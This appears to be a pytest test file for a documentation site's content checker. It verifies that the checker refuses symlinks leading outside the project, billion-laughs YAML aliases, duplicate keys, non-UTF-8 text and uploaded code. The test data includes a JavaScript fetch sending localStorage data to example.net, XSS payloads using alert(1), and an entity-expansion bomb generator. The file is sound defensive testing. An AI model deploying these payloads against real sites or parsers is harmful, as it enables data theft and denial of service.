"""Content is data: files that lead outside the project, hostile YAML and unreadable text are refused by
`make check` and by the build, in French, naming the file (and line), never what a link leads to.

Every case is made on a temporary copy of the tree, with its own hostile input; a canary file outside the
project stands for what an attacker would want published or echoed.
"""

import os
import re
import subprocess
import sys

import pytest

from conftest import build
from plan_ovt import intake

CANARY = "CANARI-7f3a-ne-doit-jamais-sortir"


@pytest.fixture
def canary(tmp_path):
    path = tmp_path / "outside" / "secret.txt"
    path.parent.mkdir()
    path.write_text(f"title: {CANARY}\n", encoding="utf-8")
    return path


def run_check(project, *arguments):
    # A safety net, not a measure: a hostile file that made the check run with no end fails here.
    return subprocess.run([sys.executable, "-m", "plan_ovt.check", *arguments], cwd=project, capture_output=True,
                          text=True, timeout=300)


def assert_refused(result, file, line, words, canary=None):
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output
    where = rf":{line}" if line else ""
    assert re.search(rf"^{re.escape(file)}{where}: [^\n]*{re.escape(words)}", output, re.M), output
    assert "À faire : " in output and "[en] " in output
    if canary is not None:
        assert CANARY not in output and str(canary.parent) not in output


def link(project, file, target):
    path = project / file
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.exists():
        path.unlink()
    path.symlink_to(target)


# Files that lead outside the project

LINKS = {
    # name: (file replaced by a link to the canary, as a merge request could bring it)
    "page": "docs/fr/introduction.md",
    "new-page": "docs/en/stolen.md",
    "data-file": "data/itq.yml",
    "edition": "data/edition/approved.yml",
    "template": "overrides/partials/stolen.html",
    "media": f"docs/{intake.MEDIA_FOLDER}/carte.png",
    "word-list": "dictionary/fr.txt",
}


@pytest.mark.parametrize("name", LINKS)
def test_a_link_is_refused_without_naming_its_target(project, canary, name):
    file = LINKS[name]
    link(project, file, canary)
    assert_refused(run_check(project), file, None, "lien symbolique", canary)
    annotations = run_check(project, "--format", "github")
    assert f"::error file={file}," in annotations.stdout and CANARY not in annotations.stdout + annotations.stderr


def test_a_linked_folder_is_refused_and_not_entered(project, canary):
    link(project, "docs/fr/annexe", canary.parent)
    result = run_check(project)
    assert_refused(result, "docs/fr/annexe", None, "lien symbolique", canary)
    assert "annexe/secret.txt" not in result.stderr


def test_a_link_inside_the_project_is_refused_too(project):
    # Even a link to another file of the project: the web editor and Git hosts do not show links.
    link(project, "docs/en/copy.md", project / "docs/en/introduction.md")
    assert_refused(run_check(project), "docs/en/copy.md", None, "lien symbolique")


@pytest.mark.parametrize("file", ["docs/fr/introduction.md", f"docs/{intake.MEDIA_FOLDER}/carte.png", "data/itq.yml"])
def test_the_build_refuses_a_link_and_publishes_nothing_of_its_target(project, canary, tmp_path, file):
    link(project, file, canary)
    site = tmp_path / "site"
    result = build(project, site, PLAN_OVT_PDF="0")
    assert result.returncode != 0
    assert f"{file}: lien symbolique" in result.stderr and CANARY not in result.stderr + result.stdout
    assert "Traceback" not in result.stderr
    published = [path for path in site.rglob("*") if path.is_file()] if site.exists() else []
    assert not any(CANARY in path.read_text(encoding="utf-8", errors="replace") for path in published)


def test_a_special_file_is_refused(project):
    os.mkfifo(project / "docs/fr/tube.md")  # reading it would wait for ever
    assert_refused(run_check(project), "docs/fr/tube.md", None, "fichier spécial")


# Hostile YAML: aliases, duplicate keys, depth


def billion_laughs(levels=12):
    """A YAML mapping whose last key stands for 9**levels strings, in a few hundred bytes."""
    lines = ["lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 9)}]" for i in range(1, levels)]
    return lines


def add_lines(project, file, lines, before=None):
    """Insert `lines` before the first line starting with `before` (at the end without it); returns the line
    number of the first of them."""
    path = project / file
    text = path.read_text(encoding="utf-8")
    rows = text.splitlines()
    index = next(i for i, row in enumerate(rows) if row.startswith(before)) if before else len(rows)
    path.write_text("\n".join(rows[:index] + lines + rows[index:]) + "\n", encoding="utf-8")
    return index + 1


# name: (file, where the lines go (before the first line starting with…), lines)
HOSTILE_YAML = {
    "data-file": ("data/labels.yml", None, billion_laughs()),
    "changes": ("data/changes.yml", None, ["- &record {date: 2026-01-01}", "- *record"]),
    "edition": ("data/edition/approved.yml", None, ["more: &more [a, b]", "again: *more"]),
    "front-matter": ("docs/fr/introduction.md", "title:", billion_laughs()),
    "front-matter-en": ("docs/en/introduction.md", "title:", ["tags: &t [a]", "more: *t"]),
}


@pytest.mark.parametrize("name", HOSTILE_YAML)
def test_an_alias_is_refused_on_its_line(project, name):
    file, before, lines = HOSTILE_YAML[name]
    first = add_lines(project, file, lines, before)
    alias_line = first + next(i for i, line in enumerate(lines) if "*" in line)
    assert_refused(run_check(project), file, alias_line, "renvoi YAML")


@pytest.mark.parametrize("name", ["data-file", "front-matter"])
def test_the_build_refuses_an_alias(project, tmp_path, name):
    file, before, lines = HOSTILE_YAML[name]
    add_lines(project, file, lines, before)
    result = build(project, tmp_path / "site", PLAN_OVT_PDF="0")
    assert result.returncode != 0 and "renvoi YAML" in result.stderr and "Traceback" not in result.stderr


DUPLICATES = {
    # name: (file, the key written a second time, before the first line starting with…; None: at the end)
    "data-file": ("data/plan.yml", "period: 2020-2021", "period:"),
    "front-matter": ("docs/en/introduction.md", "title: Another title", "title:"),
    "changes": ("data/changes.yml", "  kind: erratum", "  kind:"),
    "edition": ("data/edition/approved.yml", "units: {}", None),
}


@pytest.mark.parametrize("name", DUPLICATES)
def test_a_duplicate_key_is_refused_on_its_line(project, name):
    file, duplicate, before = DUPLICATES[name]
    line = add_lines(project, file, [duplicate], before) + (1 if before else 0)  # the key's second writing
    key = duplicate.split(":")[0].strip()
    assert_refused(run_check(project), file, line, f"clé « {key} » en double")


def test_yaml_nested_too_deep_is_refused(project):
    line = add_lines(project, "data/regions.yml", ["- " + "[" * 200 + "]" * 200])
    assert_refused(run_check(project), "data/regions.yml", line, "imbrication trop profonde")


# Text: encoding and size


@pytest.mark.parametrize("file", ["docs/fr/introduction.md", "data/plan.yml", "data/changes.yml"])
def test_a_file_that_is_not_utf8_names_its_byte_and_line(project, file):
    path = project / file
    content = path.read_bytes()
    rows = content.split(b"\n")
    line = len(rows) // 2
    offset = len(b"\n".join(rows[: line - 1])) + 1 + len(rows[line - 1])
    # "é" as an older Windows editor saves it (Latin-1), at the end of a line in the middle of the file.
    path.write_bytes(content[:offset] + b"\xe9" + content[offset:])
    assert_refused(run_check(project), file, line, f"n’est pas en UTF-8 (octet {offset}")


@pytest.mark.parametrize("file, limit", [("docs/fr/annexe.md", intake.TEXT_LIMIT),
                                         ("data/regions.yml", intake.TEXT_LIMIT),
                                         (f"docs/{intake.MEDIA_FOLDER}/photo.jpg", intake.MEDIA_LIMIT)])
def test_a_file_above_its_limit_is_refused(project, file, limit):
    path = project / file
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("ab") as stream:
        stream.truncate(limit + 1)
    assert_refused(run_check(project), file, None, "fichier trop volumineux")


@pytest.mark.parametrize("name, content", [
    ("page.html", "<script src='vol.js'></script>"),
    ("vol.js", "fetch('https://example.net/?' + localStorage.length)"),
    ("logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ("theme.css", "body { display: none }"),
])
def test_docs_holds_pages_and_media_never_code(project, tmp_path, name, content):
    """An upload of the web editor, or a file of a merge request: published as is, on the site's origin."""
    file = f"docs/{intake.MEDIA_FOLDER}/{name}"
    (project / file).parent.mkdir(parents=True, exist_ok=True)
    (project / file).write_text(content, encoding="utf-8")
    assert_refused(run_check(project), file, None, "type de fichier non permis dans docs/")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0 and not (tmp_path / "site" / intake.MEDIA_FOLDER / name).exists()


@pytest.mark.parametrize("name", ['a"><script>alert(1)<', "page avec espaces.md", "été.md"])
def test_a_name_in_docs_is_an_address_of_plain_characters(project, name):
    file = f"docs/fr/{name}.md" if not name.endswith(".md") else f"docs/fr/{name}"
    (project / file).write_text("---\ntitle: Page\ndescription: Page.\ntranslation_key: page\n---\n\n# Page\n",
                                encoding="utf-8")
    assert_refused(run_check(project), file, None, "nom de fichier avec des caractères non permis")


def test_the_guides_state_the_limits_the_rules_apply():
    from conftest import ROOT

    for guide in ("data/README.md", "CONTRIBUTING.md"):
        text = (ROOT / guide).read_text(encoding="utf-8")
        for limit in (intake.TEXT_LIMIT, intake.MEDIA_LIMIT):
            assert f"{limit // 1_000_000} Mo" in text, (guide, limit)
        assert f"{intake.MAX_DEPTH} niveaux" in text, guide


# Long hostile lines: every rule reads them in linear time (measured by make bench, not here)

HOSTILE_UNITS = ["a-", "a’", "«", "“", "[", "](", "<", "![", "[](", "x:", "_", "a@", "`", "*a"]


def test_long_hostile_lines_are_checked_and_reported(project):
    """Lines of 5 kB made of the openings the rulebook's patterns look for: make check finishes and names
    the first line (a hyphenated « word » of 5 000 letters, shortened in the message)."""
    file = "docs/fr/accessibilite.md"
    lines = [(unit * (5_000 // len(unit)))[:5_000] for unit in HOSTILE_UNITS]
    first = add_lines(project, file, [line for hostile in lines for line in ("", hostile)]) + 1
    result = run_check(project)
    assert_refused(result, file, first, "mot inconnu « a-a-a-a")
    assert "a-" * 30 + "…" in result.stderr and "a-" * 100 not in result.stderr
